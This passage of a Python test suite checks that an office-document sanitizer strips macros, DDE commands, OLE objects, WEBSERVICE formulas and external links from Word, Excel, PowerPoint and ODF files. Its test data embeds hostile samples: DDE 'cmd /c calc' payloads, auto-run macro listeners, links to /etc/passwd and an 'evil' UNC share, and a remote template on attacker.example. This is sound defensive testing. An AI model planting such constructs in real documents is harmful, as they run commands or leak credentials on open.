                        '<row r="3"><c r="C3"><f t="shared" si="0"/><v>1</v></c></row>')
        pkg.workbook_names.append('<definedName name="_xlnm.Print_Area" localSheetId="0">'
                                  'Sheet1!$A$1:$C$3</definedName>')
        pkg.sheet_after.append('<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
                               '<formula>A1&gt;5</formula></cfRule></conditionalFormatting>'
                               '<dataValidations count="1"><dataValidation type="list" sqref="D1">'
                               '<formula1>"yes,no"</formula1></dataValidation></dataValidations>')
    else:
        pkg.add_part("ppt/media/image1.png", PNG, "image/png", pkg.second, f"{R}/image", "rIdPic")
        pkg.body.append('<p:pic><p:nvPicPr><p:cNvPr id="5" name="p"><a:hlinkClick r:id="" '
                        'action="ppaction://hlinkshowjump?jump=nextslide"/></p:cNvPr><p:cNvPicPr/><p:nvPr/></p:nvPicPr>'
                        '<p:blipFill><a:blip r:embed="rIdPic"/></p:blipFill><p:spPr/></p:pic>')
    return pkg.build()


@pytest.mark.parametrize("naming", NAMINGS)
@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_legitimate_documents_keep_their_content(kind, naming):
    from bots.sanitizer.engine import ooxml_verify

    original = legitimate(kind, naming)
    stripped = ooxml.strip(original)
    assert ooxml_verify.verify_package(stripped.data) == []
    assert findings(stripped.data) == []
    members = {n: zipfile.ZipFile(io.BytesIO(stripped.data)).read(n)
               for n in zipfile.ZipFile(io.BytesIO(stripped.data)).namelist()}
    text = b"".join(members.values()).decode("utf-8", "replace")
    if kind == "docx":
        for kept in ("TABLE-CELL", "INTERNAL-LINK", "WEB-LINK", "TOC-RESULT", " TOC ", " PAGE ", "NUMPAGES",
                     "https://www.city.example.lg.jp/", "w:anchor=\"section2\"", " DATE ", "WEB-FIELD"):
            assert kept in text, kept
        assert PNG in members.values()  # the picture, byte for byte
        assert 'r:embed="rIdPic"' in text
    elif kind == "xlsx":
        for kept in ("SUM(A1:A1)", "AVERAGE(A1:A2)", 'IF(A1&gt;5,"big","small")', 'si="0"', "_xlnm.Print_Area",
                     "<formula>A1&gt;5</formula>", "yes,no"):
            assert kept in text, kept
        assert text.count('t="shared"') == 2
    else:
        assert PNG in members.values() and "hlinkshowjump" in text and "SLIDE-TEXT" in text
    assert stripped.removed == ()


# --- limits and broken packages ---------------------------------------------------------------------

def test_a_part_over_the_limit_or_two_members_for_one_part_are_refused():
    big = Package("docx")
    big.body.append("<w:p><w:r><w:t>" + "x" * 3_000_000 + "</w:t></w:r></w:p>")
    with pytest.raises(Refusal) as refused:
        ooxml.strip(big.build(), ooxml.Limits(max_part_bytes=1024 * 1024))
    assert refused.value.note.key == "sanitizer.refused.too_large"

    members = zipfile.ZipFile(io.BytesIO(legitimate("docx")))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name in members.namelist():
            z.writestr(name, members.read(name))
        z.writestr("word/DOCUMENT.xml", b"<w:document/>")  # the same part as word/document.xml for OPC
    with pytest.raises(Refusal) as refused:
        ooxml.strip(buffer.getvalue())
    assert refused.value.note.key == "sanitizer.refused.broken"


def test_a_malformed_legacy_drawing_goes_alone_and_two_relationships_of_one_id_refuse():
    from bots.sanitizer.engine import ooxml_verify

    pkg = Package("xlsx")
    pkg.add_part("xl/drawings/vmlDrawing1.vml", "<xml><v:shape><br></v:shape>", f"{OD}.vmlDrawing", pkg.second,
                 f"{R}/vmlDrawing", "rIdVml")
    pkg.sheet_after.append('<legacyDrawing r:id="rIdVml"/>')
    stripped = ooxml.strip(pkg.build())
    assert "other_parts" in stripped.removed and ooxml_verify.verify_package(stripped.data) == []
    members = zipfile.ZipFile(io.BytesIO(stripped.data))
    assert "xl/drawings/vmlDrawing1.vml" not in members.namelist()
    assert b"legacyDrawing" not in members.read("xl/worksheets/sheet1.xml")  # no reference to what went
    assert b"SHEET-TEXT" in members.read("xl/worksheets/sheet1.xml")

    pkg = Package("docx")
    pkg.add_rel(pkg.main, "rIdSecond", f"{R}/hyperlink", "https://www.city.example.lg.jp/")
    with pytest.raises(Refusal) as refused:
        ooxml.strip(pkg.build())
    assert refused.value.note.key == "sanitizer.refused.broken"


# --- end to end: lgwan-chat sanitize with a policies file choosing strip-active ----------------------

def test_strip_active_through_the_cli(tmp_path):
    (tmp_path / "policies.yaml").write_text("engine:\n  policies:\n    office: strip-active\n", encoding="utf-8")
    files = {"テンプレート.docx": build("external_template", "docx", "second", "upper_rels"),
             "差し込み.docx": build("field_database", "docx", "body", "upper_xml"),
             "集計.xlsx": build("formula_webservice", "xlsx", "name", "plain"),
             "発表.pptx": build("slide_program", "pptx", "second", "plain"),
             "外部リンク.xlsx": root_external_links("xlsx"),
             "通常.docx": legitimate("docx")}
    for name, data in files.items():
        (tmp_path / name).write_bytes(data)
    result = subprocess.run([LGWAN_CHAT, "sanitize", *files, "--config", "policies.yaml", "--out", "out", "--json"],
                            capture_output=True, text=True, cwd=tmp_path, timeout=300)
    assert result.returncode == 0, result.stdout + result.stderr
    lines = {Path(line["file"]).name: line for line in map(json.loads, result.stdout.splitlines())}
    assert all(line["verdict"] == "sanitized" and line["policy"] == "strip-active" for line in lines.values())
    assert "外部テンプレート" in lines["テンプレート.docx"]["report"]
    assert "フィールド" in lines["差し込み.docx"]["report"]
    assert "WEBSERVICE" in lines["集計.xlsx"]["report"]
    for name in files:
        out = tmp_path / "out" / name
        assert out.is_file(), name  # delivered as an Office file, not an image PDF
        assert findings(out.read_bytes()) == [], name
    assert b"BODY-TEXT" in zipfile.ZipFile(tmp_path / "out" / "通常.docx").read("word/document.xml")


# --- the admin guide's lists are the code's -----------------------------------------------------------

@pytest.mark.parametrize("guide", ["docs/admin-guide.ja.md", "docs/admin-guide.en.md"])
def test_the_admin_guide_lists_what_the_code_keeps_and_removes(guide):
    from bots.sanitizer.engine import ooxml_verify

    text = (Path(__file__).resolve().parent.parent / guide).read_text(encoding="utf-8")
    section = text[text.index("`strip-active`"):]
    kept_row = next(line for line in section.splitlines() if line.startswith(("| Excel の数式", "| Excel formulas")))
    kept, removed_ = kept_row.split(" | ")[1:3]
    kept_functions = set(re.findall(r"\b([A-Z][A-Z0-9.]*[A-Z0-9])\b", kept))
    removed_functions = set(re.findall(r"\b([A-Z][A-Z0-9.]*[A-Z0-9])\b", removed_.split("DDE")[0]))
    assert {"SUM", "AVERAGE", "IF", "VLOOKUP"} <= kept_functions and {"WEBSERVICE", "RTD"} <= removed_functions
    for name in kept_functions:
        assert ooxml.formula_is_inert(f"{name}(A1)") and not ooxml_verify._formula_problems(f"{name}(A1)"), name
    for name in removed_functions:
        assert not ooxml.formula_is_inert(f"{name}(A1)") and ooxml_verify._formula_problems(f"{name}(A1)"), name
    fields_row = next(line for line in section.splitlines()
                      if line.startswith(("| Word のフィールド", "| Word fields")))
    kept, removed_ = fields_row.split(" | ")[1:3]
    for name in re.findall(r"\b([A-Z]{3,})\b", kept.split("HYPERLINK")[0]):
        assert ooxml.field_is_inert(f" {name} ") and not ooxml_verify._field_problems(f" {name} "), name
    for name in re.findall(r"\b([A-Z]{3,})\b", removed_.split("HYPERLINK")[0]):
        assert not ooxml.field_is_inert(f" {name} ") and ooxml_verify._field_problems(f" {name} "), name


# --- ODF: the same principle before rasterizing ---------------------------------------------------------

ODF_NS = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
          'office:version="1.2"')


def odf_package(body: str, kind: str = "text", members: dict[str, tuple[str, bytes]] | None = None,
                head: str = "") -> bytes:
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ODF_NS}>{head}<office:scripts/>'
               f'<office:body><office:{kind}><text:p>ODF-TEXT</text:p>{body}</office:{kind}></office:body>'
               '</office:document-content>')
    media = f"application/vnd.oasis.opendocument.{kind}"
    members = {"content.xml": ("text/xml", content.encode()), **(members or {})}
    entries = f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media}"/>' + "".join(
        f'<manifest:file-entry manifest:full-path="{p}" manifest:media-type="{t}"/>' for p, (t, _) in members.items())
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", media, compress_type=zipfile.ZIP_STORED)
        z.writestr("META-INF/manifest.xml", '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
                   f'"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">{entries}'
                   '</manifest:manifest>')
        for name, (_, data) in members.items():
            z.writestr(name, data)
    return buffer.getvalue()


def ods_cell(formula: str) -> str:
    quoted = escape(formula, {chr(34): "&quot;"})
    return (f'<table:table table:name="S"><table:table-row><table:table-cell table:formula="{quoted}" '
            'office:value-type="float" office:value="42"><text:p>42</text:p></table:table-cell>'
            '</table:table-row></table:table>')


ODF_ATTACKS = {
    "basic_library": lambda: odf_package("", members={"Basic/Standard/Module1.xml": ("text/xml", b"<m>Shell</m>"),
                                                     "Scripts/python/x.py": ("", b"import os")}),
    "event_listener": lambda: odf_package("", head='<office:event-listeners><script:event-listener script:language='
                                          '"ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
                                          'Standard.Module1.Main?language=Basic&amp;location=document"/>'
                                          '<script:event-listener script:language="ooo:script" '
                                          'script:event-name="dom:load" script:macro-name="Standard.Module1.Main"/>'
                                          '</office:event-listeners>'),
    "linked_section": lambda: odf_package('<text:section text:name="s"><text:section-source '
                                          'xlink:href="file:///etc/passwd"/></text:section>'),
    "linked_image": lambda: odf_package('<text:p><draw:frame><draw:image xlink:href="file:////evil/share/x.png"/>'
                                        '</draw:frame></text:p>'),
    "file_link": lambda: odf_package('<text:p><text:a xlink:href="file:///C:/Windows/System32/calc.exe">RUN</text:a>'
                                     '</text:p>'),
    "ole_object": lambda: odf_package('<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame>'
                                      '</text:p>', members={"Object 1": ("application/vnd.sun.star.oleobject", OLE)}),
    "dde_field": lambda: odf_package('<text:p><text:dde-connection text:connection-name="c">SHOWN-RESULT'
                                     '</text:dde-connection></text:p>',
                                     head='<text:dde-connection-decls><text:dde-connection-decl office:name="c" '
                                          'office:dde-application="cmd" office:dde-topic="/c calc" '
                                          'office:dde-item="x"/>'
                                          '</text:dde-connection-decls>'),
    "macro_field": lambda: odf_package('<text:p><text:execute-macro text:name="AutoOpen">SHOWN-RESULT'
                                       '</text:execute-macro></text:p>'),
    "webservice": lambda: odf_package(ods_cell('of:=COM.MICROSOFT.WEBSERVICE("http://127.0.0.1:9/")'), "spreadsheet"),
    "dde_formula": lambda: odf_package(ods_cell('of:=DDE("cmd";"/c calc";"x")'), "spreadsheet"),
    "other_file": lambda: odf_package(ods_cell("of:=['file:///C:/secret.ods'#$Sheet1.A1]"), "spreadsheet"),
}


def odf_findings(data: bytes) -> list[str]:
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            raw = z.read(name)
            if name.startswith(("Basic/", "Scripts/", "Object")) or raw.startswith(bytes.fromhex("d0cf11e0")):
                found.append(f"member {name}")
            if not name.endswith(".xml"):
                continue
            for el in etree.fromstring(raw).iter(etree.Element):
                local = etree.QName(el).localname
                if local in ("event-listener", "section-source", "dde-connection-decl", "execute-macro", "object-ole"):
                    found.append(f"{name}: <{local}>")
                href = el.get("{http://www.w3.org/1999/xlink}href", "")
                if re.match(r"\s*(file:|\\\\|//|vnd\.sun\.star\.script)", href, re.I):
                    found.append(f"{name}: href {href}")
                formula = el.get("{urn:oasis:names:tc:opendocument:xmlns:table:1.0}formula", "")
                functions = set(re.findall(r"([A-Za-z_][\w.]*)\(", formula)) - SAFE_FUNCTIONS
                if functions or "#" in formula:
                    found.append(f"{name}: formula {formula}")
    return found


@pytest.mark.parametrize("attack", ODF_ATTACKS)
def test_odf_keeps_only_what_is_known_inert(attack):
    from bots.sanitizer.engine import odf

    original = ODF_ATTACKS[attack]()
    assert odf_findings(original)
    data, extension, removed = odf.strip(original, ooxml.Limits())
    assert odf_findings(data) == []
    assert removed and extension in ("odt", "ods")
    text = b"".join(zipfile.ZipFile(io.BytesIO(data)).read(n) for n in zipfile.ZipFile(io.BytesIO(data)).namelist())
    assert b"ODF-TEXT" in text
    if attack.endswith("_field"):
        assert b"SHOWN-RESULT" in text
    if attack in ("webservice", "dde_formula", "other_file"):
        assert b'office:value="42"' in text  # the value the cell showed


def test_a_legitimate_odf_keeps_its_pictures_links_and_formulas():
    from bots.sanitizer.engine import odf

    body = ('<text:p><text:a xlink:href="https://www.city.example.lg.jp/">WEB-LINK</text:a>'
            '<text:a xlink:href="#section2">INTERNAL-LINK</text:a></text:p>'
            '<text:p><draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame></text:p>'
            + ods_cell("of:=SUM([.A1:.B2];[$'Sheet 2'.C3])"))
    data, _, removed = odf.strip(odf_package(body, members={"Pictures/a.png": ("image/png", PNG)}), ooxml.Limits())
    members = zipfile.ZipFile(io.BytesIO(data))
    content = members.read("content.xml").decode()
    assert removed == set()
    assert members.read("Pictures/a.png") == PNG and "Pictures/a.png" in members.read("META-INF/manifest.xml").decode()
    for kept in ("WEB-LINK", "https://www.city.example.lg.jp/", "#section2", "Pictures/a.png", "of:=SUM([.A1:.B2]"):
        assert kept in content, kept
    assert members.namelist()[0] == "mimetype" and members.getinfo("mimetype").compress_type == zipfile.ZIP_STORED


def test_what_the_stripper_keeps_the_verifier_accepts_and_it_needs_no_pattern():
    """Two lists written apart must still agree, or good documents would be refused after stripping."""
    from bots.sanitizer.engine import ooxml_verify

    for name in ooxml.KEPT_FUNCTIONS:
        assert ooxml_verify._formula_problems(f"{name}(A1)") == [], name
    for name in ooxml.KEPT_FIELDS - {"="}:
        assert ooxml_verify._field_problems(f" {name} ") == [], name
    assert ooxml.KEPT_RELATIONSHIPS <= ooxml_verify.RELATIONSHIP_TYPES
    relabelled = {t.lower() for t in ooxml.MAIN_TYPES} - {t.lower() for t in ooxml.PLAIN_MAIN.values()}
    assert set(ooxml.KEPT_CONTENT_TYPES) - relabelled <= ooxml_verify.XML_TYPES | set(ooxml_verify.PICTURES)
    source = Path(ooxml_verify.__file__).read_text(encoding="utf-8")
    assert "import re" not in source and ooxml_verify.UNTRUSTED_PATTERNS == {}


# --- relationships fuzzed: a verified clean file or a clear refusal, never an exception ---------------

FUZZ_TARGETS = (
    "https://www.city.example.lg.jp/", "mailto:soumu@city.example.lg.jp", "HTTPS://A/ B", "http://[broken/",
    "file:///C:/x.docx", "\\\\server\\share\\x.dotm", "//server/x", "c:/x.xml", "x:y", "", "#frag", ".", "..", "/",
    "missing.xml", "../../x.xml", "../../../../etc/passwd", "%ZZ", "%2e%2e/x.xml", "/word/document.xml",
    "/xl/workbook.xml", "/ppt/presentation.xml", "../word/settings.xml", "word/document.xml", "settings.xml",
    "media/image1.png", "/word/media/image1.png", "_rels/document.xml.rels", "/_rels/.rels", "[Content_Types].xml")
FUZZ_MODES = (None, "External", "Internal", "EXTERNAL", " External ", "bogus")
FUZZ_TYPES = (f"{R}/officeDocument", f"{R}/hyperlink", f"{R}/image", f"{R}/styles", f"{R}/attachedTemplate",
              "http://example.org/unknown", "")
FUZZ_IDS = ("rIdNew", "EXISTING", "", None)


def relationship(rid: str | None, kind: str, target: str, mode: str | None) -> str:
    attributes = [] if rid is None else [f'Id="{escape(rid, {chr(34): "&quot;"})}"']
    attributes += [f'Type="{kind}"', f'Target="{escape(target, {chr(34): "&quot;"})}"']
    attributes += [] if mode is None else [f'TargetMode="{mode}"']
    return f"<Relationship {' '.join(attributes)}/>"


def mutated(kind: str, rels_member: str, how: str, target: str, mode: str | None, rel_type: str,
            rid: str | None) -> bytes:
    """``legitimate(kind)`` with one relationship of ``rels_member`` added or put in place of its first."""
    with zipfile.ZipFile(io.BytesIO(legitimate(kind))) as z:
        members = {name: z.read(name) for name in z.namelist()}
    xml = members[rels_member].decode()
    start = xml.index("<Relationship ")
    existing = xml[xml.index('Id="', start) + 4:].split('"', 1)[0]
    new = relationship(existing if rid == "EXISTING" else rid, rel_type, target, mode)
    xml = xml.replace("</Relationships>", new + "</Relationships>") if how == "add" else \
        xml[:start] + new + xml[xml.index("/>", start) + 2:]
    members[rels_member] = xml.encode()
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buffer.getvalue()


def relationship_cases(kind: str, sample: int = 400) -> list[tuple]:
    """Every target as an external link of the package root (where issue reports met a KeyError), then
    a seeded sample of every mutation of every relationships member."""
    pkg = Package(kind)
    rels = ["_rels/.rels", pkg.rels_member(pkg.main), pkg.rels_member(pkg.second)]
    rels = [r for r in rels if r in zipfile.ZipFile(io.BytesIO(legitimate(kind))).namelist()]
    root = [("_rels/.rels", "add", t, "External", f"{R}/hyperlink", "rIdNew") for t in FUZZ_TARGETS]
    everything = [(r, how, t, mode, rel_type, rid) for r in rels for how in ("add", "replace")
                  for t in FUZZ_TARGETS for mode in FUZZ_MODES for rel_type in FUZZ_TYPES for rid in FUZZ_IDS]
    return root + random.Random(f"relationships-{kind}").sample(everything, sample)


def outcome(data: bytes, kind: str, added: bool) -> str:
    """"clean", "refused", or what went wrong (an exception, an output the checks do not pass, the
    document's text lost for a relationship ``added``; one replaced may have led to it)."""
    from bots.sanitizer.engine import ooxml_verify

    try:
        assert isinstance(ooxml_verify.verify_package(data), list)
    except Exception as e:  # the verifier is total: whatever it is given, it answers with problems
        return f"verifier raised on the input: {e!r}"
    try:
        stripped = ooxml.strip(data)
    except Refusal as refusal:
        if (refusal.note.key, refusal.instead and refusal.instead.key) != ("sanitizer.refused.broken",
                                                                          "sanitizer.instead.pdf"):
            return f"refused as {refusal.note.key}"
        return "refused"
    except Exception as e:
        return f"stripper raised: {e!r}"
    try:
        problems = ooxml_verify.verify_package(stripped.data)
    except Exception as e:
        return f"verifier raised on the output: {e!r}"
    if problems or findings(stripped.data):
        return f"output not clean: {problems} {findings(stripped.data)}"
    with zipfile.ZipFile(io.BytesIO(stripped.data)) as z:
        text = b"".join(z.read(n) for n in z.namelist())
    if added and {"docx": b"BODY-TEXT", "xlsx": b"SHEET-TEXT", "pptx": b"SLIDE-TEXT"}[kind] not in text:
        return "output lost the document's text"
    return "clean"


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_fuzzed_relationships_end_as_a_clean_file_or_a_clear_refusal(kind):
    results = {case: outcome(mutated(kind, *case), kind, case[1] == "add") for case in relationship_cases(kind)}
    wrong = {case: result for case, result in results.items() if result not in ("clean", "refused")}
    assert wrong == {}
    # the sample reaches both sides (a fuzz that refuses everything would prove nothing)
    assert {"clean", "refused"} <= set(results.values())


def root_external_links(kind: str) -> bytes:
    """External targets in the package root's ``_rels/.rels`` (where a link is never kept)."""
    pkg = Package(kind)
    pkg.add_rel("", "rIdWeb", f"{R}/hyperlink", "https://www.city.example.lg.jp/")
    pkg.add_rel("", "rIdTemplate", f"{R}/attachedTemplate", "http://attacker.example/t.dotm")
    return pkg.build()


@pytest.mark.parametrize("kind", ["docx", "xlsx", "pptx"])
def test_an_external_link_of_the_package_root_is_stripped_and_the_output_verifies(kind):
    from bots.sanitizer.engine import ooxml_verify

    original = root_external_links(kind)
    assert any("_rels/.rels" in p for p in ooxml_verify.verify_package(original))
    stripped = ooxml.strip(original)
    assert ooxml_verify.verify_package(stripped.data) == [] and findings(stripped.data) == []
    root = zipfile.ZipFile(io.BytesIO(stripped.data)).read("_rels/.rels")
    assert b"External" not in root and b"attacker" not in root and b"officeDocument" in root
    assert "external_links" in stripped.removed


def test_a_web_link_that_is_no_url_goes_and_its_text_stays():
    """``http://[x`` passes a pattern for web links but no URL parser: the verifier raised on it (the
    person was told "a problem (OOXML)"); now the stripper drops it and the output verifies."""
    from bots.sanitizer.engine import ooxml_verify

    pkg = Package("docx")
    pkg.add_rel(pkg.main, "rIdWeb", f"{R}/hyperlink", "http://[broken/")
    pkg.body.append('<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>LINK-TEXT</w:t></w:r></w:hyperlink></w:p>')
    pkg.body.append(complex_field(' HYPERLINK "http://[broken/" ', "FIELD-TEXT", split=False))
    stripped = ooxml.strip(pkg.build())
    assert ooxml_verify.verify_package(stripped.data) == []
    document = zipfile.ZipFile(io.BytesIO(stripped.data)).read("word/document.xml")
    assert b"[broken" not in document and b"LINK-TEXT" in document and b"FIELD-TEXT" in document
    assert b"[broken" not in zipfile.ZipFile(io.BytesIO(stripped.data)).read("word/_rels/document.xml.rels")
    assert any("HYPERLINK" in p for p in ooxml_verify.verify_package(pkg.build()))


def test_a_tampered_deflate_stream_is_a_clear_refusal_and_the_verifier_says_so():
    from bots.sanitizer.engine import ooxml_verify

    data = legitimate("docx")
    info = zipfile.ZipFile(io.BytesIO(data)).getinfo("word/document.xml")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    raised = set()
    for at in range(start, start + 24):
        tampered = bytearray(data)
        tampered[at] ^= 0xFF
        with pytest.raises(Refusal) as refused:
            ooxml.strip(bytes(tampered))
        assert refused.value.note.key == "sanitizer.refused.broken"
        problems = ooxml_verify.verify_package(bytes(tampered))
        assert problems
        raised |= {p for p in problems if p.startswith("unreadable member")}
    assert raised == {"unreadable member: word/document.xml"}


def test_a_verifier_that_cannot_read_an_output_refuses_it_as_broken(monkeypatch):
    """Whatever the verifier did not foresee refuses the file with the reason a person understands
    (unreadable: save as PDF), not with the name of the check ("OOXML")."""
    from bots.sanitizer.engine import ooxml_verify, verify

    stripped = ooxml.strip(legitimate("docx")).data
    docx = ooxml.PACKAGE["docx"][1]
    assert verify.problem(stripped, docx) is None

    def unforeseen(data: bytes) -> list[str]:
        raise KeyError("_rels/.rels")

    monkeypatch.setattr(ooxml_verify, "verify_package", unforeseen)
    with pytest.raises(Refusal) as refused:
        verify.problem(stripped, docx)
    instead = refused.value.instead
    assert (refused.value.note.key, instead and instead.key) == ("sanitizer.refused.broken", "sanitizer.instead.pdf")


def test_the_verifier_flags_repeated_relationship_ids_and_unknown_target_modes():
    """Fail-closed on its own: what the stripper refuses (two relationships of one id) or drops (a
    target mode OPC does not have) the verifier flags too, without the stripper's help."""
    from bots.sanitizer.engine import ooxml_verify

    repeated = mutated("docx", "word/_rels/document.xml.rels", "add", "media/image1.png", None, f"{R}/image",
                       "EXISTING")
    assert any("repeated" in p for p in ooxml_verify.verify_package(repeated))
    bogus = mutated("docx", "word/_rels/document.xml.rels", "add", "media/image1.png", "bogus", f"{R}/image",
                    "rIdNew")
    assert any("target mode" in p for p in ooxml_verify.verify_package(bogus))
